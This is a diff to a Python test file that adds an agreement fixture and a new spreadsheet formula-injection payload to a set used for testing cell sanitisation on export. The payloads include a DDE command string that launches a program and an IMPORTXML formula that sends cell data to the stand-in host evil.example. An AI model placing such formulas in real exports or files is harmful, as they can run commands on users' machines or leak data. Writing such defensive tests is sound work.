@@ -20,6 +20,7 @@ from api.spreadsheet import FORMULA_STARTS, NUMBER, safe_cell
 from config.router import router
 from tests.factories import (
     ActorFactory,
+    AgreementFactory,
     CoalitionFactory,
     MembershipFactory,
     PledgeCitationFactory,
@@ -39,6 +40,7 @@ PAYLOADS = {
     "membership": "=1+1",
     "quote": '\t=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
     "publisher": "\r=1+1",
+    "agreement": "@cmd|' /C calc'!A0",
 }
 
 
@@ -53,6 +55,7 @@ def hostile_rows():
     )
     PledgeCitationFactory(pledge=pledge, source=source, quote=PAYLOADS["quote"])
     membership = MembershipFactory(actor=actor, coalition=coalition, note=PAYLOADS["membership"])
+    AgreementFactory(coalition=coalition, title=PAYLOADS["agreement"])
     return {"pledge": pledge, "membership": membership}
 
 
